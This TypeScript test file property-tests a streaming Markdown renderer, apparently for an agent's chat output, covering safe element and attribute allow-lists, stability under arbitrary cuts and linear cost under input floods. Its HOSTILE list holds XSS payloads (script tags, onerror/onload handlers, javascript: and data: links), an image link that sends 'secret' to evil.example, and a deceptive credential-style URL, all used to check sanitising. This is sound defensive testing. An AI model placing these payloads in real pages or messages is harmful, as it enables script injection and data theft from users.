import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { begin, html, markupOf, render, renderPieces } from './support/markdown.ts';
import { workOf } from './support/work.ts';

const SIGNS =
  '* ** *** _ __ ` `` ``` ~~ ~~~ # ## - + 1. 2) > | |-| [ ] ( ) ! ![ $ \\ \\( \\| --- [x] 0 . , : < = / h http://'
    .split(' ')
    .concat(['\n', '\n', '\n\n', '\r\n', ' ', ' ', '    ', '\t', 'é', '字', '😀', '\ud83d', '\u{F0001}']);
const TAGS = [
  '<b>',
  '</b>',
  '<br>',
  '<ul>',
  '<li>',
  '</li>',
  '</ul>',
  '<p>',
  '</p>',
  '<a href="https://x.example">',
];
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<b onclick="x()" style="position:fixed">',
  '<a href="javascript:alert(1)">',
  '[x](javascript:alert(1))',
  '![x](data:text/html,x)',
  '![x](https://evil.example/?d=secret)',
  'https://bank.example@evil.example',
];
const WORDS = ['w1', 'w2', 'w3', 'a_b', 'https://a.example/b', '[w4](https://a.example)'];

const documents = (pieces: readonly string[]) =>
  fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((all) => all.join(''));
const anything = documents([...SIGNS, ...TAGS, ...HOSTILE, ...WORDS]);

/** A text and where it is cut. */
const cut = fc
  .tuple(anything, fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 9 }))
  .map(([text, sizes]) => {
    const pieces: string[] = [];
    for (let at = 0; at < text.length; at += pieces.at(-1)?.length ?? 1)
      pieces.push(text.slice(at, at + (sizes[pieces.length % sizes.length] ?? 1)));
    return { text, pieces };
  });

const RUNS = { numRuns: 300 };

/** The elements that may be made, and what each of them may carry. */
const ATTRIBUTES: Record<string, readonly string[]> = {
  pre: ['tabindex'],
  a: ['href', 'rel', 'target', 'title'],
  ol: ['start'],
  div: ['class', 'tabindex'],
  img: ['alt', 'decoding', 'loading', 'referrerpolicy', 'src'],
  button: ['class', 'type'],
};
const PLAIN =
  'b blockquote br code em h3 h4 h5 h6 hr i li p pre s span strong table tbody td th thead tr ul'.split(' ');

/** Everything below `root` that may not be there. */
function strangers(root: Element): unknown[] {
  const all = [...root.querySelectorAll('*')];
  return [
    ...all.filter(({ localName }) => !PLAIN.includes(localName) && !ATTRIBUTES[localName]),
    ...all.flatMap((it) =>
      it.getAttributeNames().filter((name) => !ATTRIBUTES[it.localName]?.includes(name)),
    ),
    ...all.flatMap((it) => [...it.childNodes].filter(({ nodeType }) => nodeType !== 1 && nodeType !== 3)),
    ...all.filter((it) => /^(?!https?:|mailto:|tel:)/.test(it.getAttribute('href') ?? 'tel:')),
    ...all.filter(
      (it) => !(it.getAttribute('src') ?? '').startsWith(it.hasAttribute('src') ? 'https://img.' : ''),
    ),
  ];
}

describe('any Markdown at all', () => {
  it('gives the same elements however it is cut', () => {
    fc.assert(
      fc.property(cut, ({ text, pieces }) => {
        const root = renderPieces(pieces);
        root.normalize();
        expect(markupOf(root)).toBe(html(text));
        expect(html(text, 1)).toBe(html(text));
      }),
      RUNS,
    );
  });

  it('becomes elements of a short list and text, whole or half way', () => {
    fc.assert(
      fc.property(cut, ({ pieces }) => {
        const root = renderPieces(pieces, (half) => expect(strangers(half)).toEqual([]));
        expect(strangers(root)).toEqual([]);
      }),
      RUNS,
    );
  });

  it('leaves the blocks alone that stand before the last one', () => {
    fc.assert(
      fc.property(cut, ({ pieces }) => {
        const seen = new Map<Element, string>();
        const root = renderPieces(pieces, (half) => {
          const before = [...half.children].slice(0, -1);
          for (const it of before) if (!seen.has(it)) seen.set(it, it.outerHTML);
        });
        const order = [...root.children];
        expect([...seen].map(([it, was]) => [order.includes(it), it.outerHTML === was])).toEqual(
          [...seen].map(() => [true, true]),
        );
      }),
      RUNS,
    );
  });

  it('loses none of the agent’s words, whatever signs stand around them', () => {
    const count = (text: string) => text.match(/w\d/g)?.length ?? 0;
    // An address is not shown, nor is the name of a language after a fence.
    const texts = documents([...SIGNS.filter((sign) => !/[(h]/.test(sign)), ...TAGS, 'w1', 'w2', 'w3']);
    fc.assert(
      fc.property(
        texts.filter((text) => !/```|~~~/.test(text)),
        (text) => {
          expect(count(render(text).textContent)).toBe(count(text));
        },
      ),
      RUNS,
    );
  });

  it.each([
    'Some **bold** words, a [link](https://a.example) and `code`.\n\n',
    '- one\n- two\n',
    '| a | b |\n',
    'words without any end ',
    '**never closed ',
  ])('costs the same, late in a message, as early: %j', (text) => {
    const { write } = begin();
    const costs = Array.from({ length: 400 }, () => workOf(() => write(text)));
    const [early, late] = [costs.slice(50, 200), costs.slice(250)].map((some) => Math.max(...some));
    expect(late).toBe(early);
  });

  it('keeps text nodes short, so that the next words cost no more than the first', () => {
    const root = renderPieces(Array.from({ length: 2_000 }, (_, at) => (at ? 'four' : '```\n')));
    const texts = [...(root.querySelector('code')?.childNodes ?? [])].map((it) => it.textContent ?? '');
    expect([texts.join(''), texts.every(({ length }) => length < 520)]).toEqual(['four'.repeat(1_999), true]);
  });
});

/** What somebody would send who wants the page to stand still. */
const FLOODS = '* _ [ ] ` ~ < | > # h a \\ ![]( ]( [a]( ](() <b> </b> *<br> https:// [x](https://a.example)'
  .split(' ')
  .concat([
    '- ',
    '1. ',
    '*a ',
    '_a*b ',
    '`a ',
    '<a ',
    '<a href="',
    '| a ',
    'https://a.example/) ',
    ' ',
    '\t',
    '\ud83d',
  ])
  .concat(['\n', '**a\n', '|\n', '- - - - - - x\n', '> > > x\n', '```\n', '``` x', '    a\n']);
const mixed = (seed: number) => fc.sample(fc.constantFrom(...FLOODS), { numRuns: 60, seed }).join('');
const SEEDS = [1, 2];

const repeated = (piece: string, length: number) =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

describe('a flood', () => {
  /** More than twice of what is held back at most. */
  const LENGTH = 5_000;

  function expectLinear(piece: string): void {
    const [once, twice] = [1, 2].map((times) => workOf(() => render(repeated(piece, times * LENGTH), 20)));
    expect({
      once,
      twice,
      isLinear: Number(twice) < Number(once) * 2.2 + 200,
      isCheap: Number(once) < LENGTH * 60,
    }).toEqual({ once, twice, isLinear: true, isCheap: true });
  }

  it.each(FLOODS)('of %j costs twice as much when it is twice as long', expectLinear);

  it.each(SEEDS)('of everything (%i) costs twice as much when it is twice as long', (seed) => {
    expectLinear(mixed(seed));
  });

  it.each(['*', '_', '[', '`', '<', '>', '- ', '\n', '![]('])(
    'of 200,000 characters, all %j, is shown',
    (piece) => {
      expect(strangers(render(repeated(piece, 200_000), 1_000))).toEqual([]);
    },
  );

  it('of 10,000 cells in one row is shown', () => {
    const root = render('|'.repeat(10_000), 1_000);
    expect([strangers(root), root.querySelectorAll('th').length]).toEqual([[], 9_999]);
  });

  it.each(SEEDS)(
    'of 200,000 characters of everything (%i) is shown',
    (seed) => {
      expect(strangers(render(repeated(mixed(seed), 200_000), 1_000))).toEqual([]);
    },
    // The emulated page takes its time, which says nothing about a browser.
    60_000,
  );
});
